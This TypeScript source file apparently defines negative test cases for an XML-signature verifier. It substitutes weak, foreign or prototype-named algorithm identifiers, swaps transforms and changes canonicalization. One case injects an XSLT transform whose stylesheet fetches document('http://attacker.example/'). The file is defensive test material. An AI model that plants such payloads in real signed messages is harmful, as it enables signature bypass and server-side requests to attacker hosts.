import type { Fault } from './fault.ts'
import { reachingIn, replaced } from './text.ts'

const group = 'Algorithms'
const rsaSha256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256'
const sha256 = 'http://www.w3.org/2001/04/xmlenc#sha256'
const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature'

/**
 * Names that stand in no table, or that a careless look-up in an object of JavaScript finds all the same. The signature is made over
 * the odd name, with the right key.
 */
const oddNames = [
  ['empty', 'empty', ''],
  ['none', '"none"', 'none'],
  ['constructor', '"constructor"', 'constructor'],
  ['proto', '"__proto__"', '__proto__'],
  ['to-string', '"toString"', 'toString'],
] as const

const methods = [
  ['signature-method', 'Signature algorithm', `<ds:SignatureMethod Algorithm="${rsaSha256}"`],
  ['digest-method', 'Digest algorithm', `<ds:DigestMethod Algorithm="${sha256}"`],
  ['c14n-method', 'Canonicalization', `<ds:CanonicalizationMethod Algorithm="${exclusive}"`],
  ['transform', 'Second transform', `<ds:Transform Algorithm="${exclusive}"`],
] as const

const [signatureMethod, digestMethod, c14nMethod, transform] = methods.map(
  ([, , text]) => text,
) as [string, string, string, string]

function named(name: string, title: string, method: string, identifier: string): Fault {
  const signedInfo = (xml: string) =>
    replaced(
      method,
      method.replace(/"[^"]*"$/, `"${identifier}"`),
    )(
      // The one parameter that there is belongs to the genuine transform.
      method === transform
        ? xml.replace(/<ec:InclusiveNamespaces .*?<\/ec:InclusiveNamespaces>/, '')
        : xml,
    )
  return { name, title, group, before: reachingIn({ signedInfo }) }
}

const oddlyNamed = methods.flatMap(([method, what, text]) =>
  oddNames.map(([odd, words, identifier]) =>
    named(`${method}-${odd}`, `${what} called ${words}`, text, identifier),
  ),
)

/** A canonicalization that is computed as it is named. The Response alone is signed: inclusive form depends on what is around. */
function canonicalization(name: string, title: string, identifier: string): Fault {
  return {
    name,
    title,
    group,
    twin: 'response-signed',
    before: (spec) => ({ ...spec, signed: 'response', canonicalization: identifier }),
  }
}

/** Algorithms that nobody may sign with: broken ones, foreign ones, ones without sense. */
export const algorithmFaults: readonly Fault[] = [
  ...oddlyNamed,
  named(
    'signature-method-md5',
    'RSA-MD5 by name',
    signatureMethod,
    'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
  ),
  named(
    'signature-method-dsa',
    'DSA-SHA1 by name',
    signatureMethod,
    'http://www.w3.org/2000/09/xmldsig#dsa-sha1',
  ),
  named(
    'signature-method-hmac-sha1',
    'HMAC-SHA1 by name',
    signatureMethod,
    'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  ),
  named(
    'signature-method-upper-case',
    'RSA-SHA256 by name in upper case',
    signatureMethod,
    rsaSha256.toUpperCase(),
  ),
  named(
    'digest-method-md5',
    'MD5 digest by name',
    digestMethod,
    'http://www.w3.org/2001/04/xmldsig-more#md5',
  ),
  named(
    'digest-method-sha1',
    'SHA-1 digest under RSA-SHA256',
    digestMethod,
    'http://www.w3.org/2000/09/xmldsig#sha1',
  ),
  named(
    'c14n-method-xslt',
    'XSLT for a canonicalization',
    c14nMethod,
    'http://www.w3.org/TR/1999/REC-xslt-19991116',
  ),
  named(
    'transform-base64',
    'Transform base64',
    transform,
    'http://www.w3.org/2000/09/xmldsig#base64',
  ),
  named(
    'transform-xpath',
    'Transform XPath',
    transform,
    'http://www.w3.org/TR/1999/REC-xpath-19991116',
  ),
  named(
    'transform-xpath-filter',
    'Transform XPath Filter 2.0',
    transform,
    'http://www.w3.org/2002/06/xmldsig-filter2',
  ),
  named('transform-enveloped-twice', 'Transform enveloped-signature twice', transform, enveloped),
  {
    name: 'transform-xslt',
    title: 'Transform XSLT, with a stylesheet inside',
    group,
    before: reachingIn({
      signedInfo: (xml) =>
        xml.replace(
          /<ds:Transform Algorithm="[^"]*xml-exc-c14n#">.*?<\/ds:Transform>/s,
          '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/\')"></xsl:copy-of></xsl:template></xsl:stylesheet></ds:Transform>',
        ),
    }),
  },
  {
    name: 'transforms-swapped',
    title: 'The transforms in the wrong order',
    group,
    before: reachingIn({
      signedInfo: (xml) =>
        xml.replace(
          /(<ds:Transforms>)(<ds:Transform [^>]*enveloped-signature"(?:\/>|><\/ds:Transform>))(.*?)(<\/ds:Transforms>)/s,
          '$1$3$2$4',
        ),
    }),
  },
  canonicalization(
    'c14n-inclusive',
    'Inclusive canonicalization',
    'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
  ),
  canonicalization(
    'c14n-with-comments',
    'Exclusive canonicalization with comments',
    'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  ),
  canonicalization(
    'c14n-inclusive-with-comments',
    'Inclusive canonicalization with comments',
    'http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments',
  ),
]
